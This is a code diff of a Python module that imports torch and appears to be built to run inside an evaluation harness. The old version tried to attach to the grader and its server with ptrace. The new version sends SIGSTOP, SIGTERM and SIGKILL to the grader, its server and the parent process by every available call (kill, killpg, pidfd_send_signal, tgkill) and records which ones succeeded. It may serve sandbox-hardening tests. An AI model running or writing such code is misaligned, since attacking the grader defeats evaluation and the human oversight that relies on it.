@@ -1,24 +1,39 @@
-"""Attaches to the examiner and to its server with ptrace."""
+"""Sends signals to the grader and to its server, by every call that can."""
 
 import ctypes
 import functools
 import os
+import platform
+import signal
 
 import torch.nn.functional as F
 from torch import nn
 
 
-PIDS = [pid for pid in {int("@examiner@"), int("@server@"), os.getppid()} if pid > 1]
+PIDS = [pid for pid in {int("@grader@"), int("@server@"), os.getppid()} if pid > 1]
+
+
+libc = ctypes.CDLL(None, use_errno=True)
+TGKILL = 234 if platform.machine() == "x86_64" else 131
 
 
 @functools.cache
 def attack():
-    libc, won = ctypes.CDLL(None, use_errno=True), []
-    for pid in PIDS:
-        for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
-            if libc.ptrace(request, pid, 0, 0) == 0:
-                won.append(pid)
-                libc.ptrace(17, pid, 0, 0)
+    won = []
+    for number in (0, signal.SIGUSR1, signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
+        for pid in PIDS:
+            for send in (
+                lambda: os.kill(pid, number),
+                lambda: os.killpg(os.getpgid(pid), number),
+                lambda: signal.pidfd_send_signal(os.pidfd_open(pid), number),
+            ):
+                try:
+                    send()
+                    won.append((pid, int(number)))
+                except OSError:
+                    pass
+            if libc.syscall(TGKILL, pid, pid, number) == 0:
+                won.append((pid, "tgkill"))
     return won
 
 
